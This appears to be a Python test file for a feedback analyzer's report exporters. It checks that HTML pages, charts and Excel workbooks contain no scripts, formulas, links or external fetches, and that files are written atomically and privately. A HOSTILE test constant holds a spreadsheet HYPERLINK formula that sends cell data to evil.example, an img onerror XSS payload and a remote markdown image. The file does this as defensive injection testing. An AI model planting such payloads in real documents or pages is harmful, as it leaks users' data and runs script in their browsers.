"""Answers as files: self-contained, without scripts and formulas, deterministic."""

import io
import re
import zipfile
from dataclasses import replace
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from analyzer.answers.types import Answer, Number, Plan, Point, Stance, Status, Task
from analyzer.counting.types import Count, Row, Table
from analyzer.errors import UsageError
from analyzer.index.types import Hit
from analyzer.reports.answer_html import answer_html
from analyzer.reports.answer_sheets import answer_sheets
from analyzer.reports.svg_charts import picture
from analyzer.reports.xlsx_sheets import workbook_bytes
from analyzer.store.file_drafts import write_whole
from analyzer.store.output_files import FORMULA_STARTS, safe_text
from analyzer.types import Citation, Claim, Method

HOSTILE = '=HYPERLINK("http://evil.example/?q="&A1) <img src=http://evil.example/x onerror=alert(1)> ![x](http://evil.example)'
METHOD = Method(
    "shop", "feedback-analyzer 0.1.0", "2026-11-25T10:00+00:00", 40, "2024-01-01 to 2024-05-01", (("m", "abc"),)
)
QUOTE = Citation("C-1", HOSTILE[:20], 0, 20)
NUMBERS = (
    Number(12, 40, "count 'late' where all", "yes"), Number(0.3, 40, "count", "share", "", 0.2, 0.4, "PPI++"),
    Number(0.5, 40, "points", "row_0_share"),
)  # fmt: skip
TABLE = Table(
    "share of comments", "share", "month", (Row("2024-01", 0.2, 9, "", 0.1, 0.3), Row(HOSTILE, 0.4, 8)), "q", "PPI++"
)


def made(text=HOSTILE, question="What about <b>late</b> parcels?", table=TABLE):
    cited = (Citation("C-1", text[:20], 0, min(20, len(text))),)
    claim = Claim("People say the parcel came late.", cited, opposed=(QUOTE,), number="row_0_share")
    answer = Answer(
        Status.ANSWERED, "12 of 40 comments.\nPeople say the parcel came late. [1]", (claim,), NUMBERS, "a-1",
        Plan(Task.TREND, text[:30], "rating<=2", "date", "month", notes=(text[:30],)), table,
        Count("late", "", 0.3, 0.2, 0.4, 40, 25, "corrected by labels (PPI++)", True),
        (Hit("C-1", 1.0, text, {"channel": text[:40], "rating": 2}),), 1, {"no comment supports it": 1},
    )  # fmt: skip
    return question, answer, METHOD


class Page(HTMLParser):
    """Collects the tags and attributes of a page."""

    def __init__(self, html):
        super().__init__()
        self.tags, self.attributes = [], []
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attributes += [(tag, name, value or "") for name, value in attrs]


@given(st.text(min_size=1, max_size=300) | st.just(HOSTILE))
def test_a_page_fetches_nothing_runs_nothing_and_shows_text_as_text(text):
    page = Page(answer_html(*made(text, question=text)))
    assert not {"script", "img", "link", "iframe", "object", "form", "base", "audio", "video"} & set(page.tags)
    for tag, name, value in page.attributes:
        assert not name.startswith("on"), (tag, name)
        assert name not in ("src", "action", "srcset", "background", "xlink:href")
        assert name != "href" or re.fullmatch(r"#c\d+", value)
    assert ("meta", "content", "default-src 'none'; style-src 'unsafe-inline'") in page.attributes


def test_a_page_shows_all_sources_of_the_answer():
    html = answer_html(*made())
    for part in ("12 of 40 comments.", "People say the parcel came late.", "count &#x27;late&#x27; where all", "a-1",
                 "rating&lt;=2", "no comment supports it", "say the opposite", "<mark>", "abc",
                 "scrubbed of personal data"):  # fmt: skip
        assert part in html, part


def test_a_chart_has_a_line_for_periods_bars_for_groups_and_nothing_for_one_row():
    assert "<polyline" in picture(TABLE)
    bars = Table("t", "comments", "Region", (Row("<b>", 3, 9), Row("b", 2, 9)), "q")
    assert picture(bars).count("<rect") == 2
    assert "&lt;b&gt;" in picture(bars)
    assert picture(Table("t", "comments", "", (Row("a", 3, 9),), "q")) == ""


POINTS = (
    Point(title="The parcel came late", stance=Stance.COMPLAINT, comments=12, people=9, share=0.3, low=0.18, high=0.45,
          sentence="The parcel came late.", citations=(QUOTE,), words=("late",), number="row_0_share"),
    Point(title=f"“{HOSTILE[:20]}”", stance=Stance.PRAISE, comments=4, people=0, share=0.1, low=0.04, high=0.23,
          sentence="", citations=(QUOTE, Citation("C-2", HOSTILE, 0, len(HOSTILE))), elsewhere=0.05, number="other"),
)  # fmt: skip


def pointed():
    """An answer with points: one with a sentence, one with a hostile quote as its title."""
    question, answer, method = made()
    return question, replace(answer, points=POINTS), method


def test_a_page_shows_points_as_the_cards_of_the_screen_without_a_script():
    html = answer_html(*pointed())
    page = Page(html)
    assert html.count('class="fa-point') == 2
    for part in ("12 of 40 comments · 9 people · 95 % interval 18.0 % to 45.0 %", ">30.0 %<",
                 "5.0 % among the other ratings",
                 'fa-title">The parcel came late <a class="fa-source" href="#c1">[1]</a>',
                 "say the opposite", 'href="#c1"'):  # fmt: skip
        assert part in html, part
    assert not {"script", "img", "link"} & set(page.tags)
    assert "print-color-adjust" in html
    assert "<svg" not in html, "the cards hold what the table holds"
    assert answer_html(*pointed()) == html


def test_a_workbook_lists_points_with_numbers_and_says_which_point_a_comment_belongs_to():
    book = sheets_of(workbook_bytes(answer_sheets(*pointed())))
    assert book.sheetnames == ["Answer", "Points", "Figures", "Table", "Verbatims", "Method"]
    head, first, second = book["Points"].values
    row = dict(zip(head, first, strict=True))
    assert (row["rank"], row["stance"], row["comments"], row["people"]) == (1, "complaint", 12, 9)
    assert (row["share"], row["low"], row["high"], row["of"]) == (0.3, 0.18, 0.45, 40)
    assert (row["sentence"], row["quote 1"]) == ("The parcel came late.", HOSTILE[:20])
    assert dict(zip(head, second, strict=True))["elsewhere"] == 0.05
    places = [row[6] for row in book["Verbatims"].values]
    assert places == ["point", "1. The parcel came late", "1. The parcel came late"]


def sheets_of(content):
    return load_workbook(io.BytesIO(content))


def test_a_workbook_holds_answer_figures_table_verbatims_and_method():
    book = sheets_of(workbook_bytes(answer_sheets(*made())))
    assert book.sheetnames == ["Answer", "Figures", "Table", "Verbatims", "Method"]
    verbatims = list(book["Verbatims"].values)
    assert verbatims[0][:8] == ("number", "id", "quote", "start", "end", "sentence", "point", "comment")
    assert verbatims[1][7] == HOSTILE
    assert verbatims[1][6] is None
    assert verbatims[2][5].startswith("opposite of: ")


@given(st.sampled_from(FORMULA_STARTS), st.text(max_size=40))
def test_no_cell_is_a_formula_or_a_link(start, rest):
    text = start + rest
    content = workbook_bytes([("Sheet", ("a",), [(text,), (HOSTILE,)])])
    with zipfile.ZipFile(io.BytesIO(content)) as parts:
        sheet = parts.read("xl/worksheets/sheet1.xml").decode()
        assert "<f>" not in sheet
        assert "<hyperlink" not in sheet
        assert not [name for name in parts.namelist() if "external" in name.lower()]
    cell = sheets_of(content)["Sheet"]["A3"]
    assert (cell.value, cell.data_type, cell.quotePrefix) == (HOSTILE, "s", True)


def test_the_same_answer_gives_the_same_bytes():
    assert workbook_bytes(answer_sheets(*made())) == workbook_bytes(answer_sheets(*made()))
    assert answer_html(*made()) == answer_html(*made())


def test_what_no_cell_can_hold_is_left_out_or_cut():
    assert safe_text("a\x00b\x1fc") == "abc"
    assert safe_text("x" * 40_000).endswith("… (cut)")
    workbook_bytes([("Sheet", ("a",), [("x\x0b" * 40_000,), (None,), (3,)])])


def test_a_file_is_written_whole_privately_and_never_over_another(tmp_path):
    out = tmp_path / "answer.html"
    digest = write_whole(out, b"one")
    assert out.read_bytes() == b"one"
    assert out.stat().st_mode & 0o777 == 0o600
    with pytest.raises(UsageError, match="--replace"):
        write_whole(out, b"two")
    assert write_whole(out, b"two", may_replace=True) != digest
    assert [path.name for path in tmp_path.iterdir()] == ["answer.html"]


def test_a_write_that_fails_leaves_the_file_before(tmp_path, monkeypatch):
    out = tmp_path / "answer.html"
    write_whole(out, b"one")

    def full(*_):
        raise OSError("no space")

    monkeypatch.setattr("os.fsync", full)
    with pytest.raises(OSError, match="no space"):
        write_whole(out, b"two", may_replace=True)
    assert out.read_bytes() == b"one"
    assert len(list(tmp_path.iterdir())) == 1
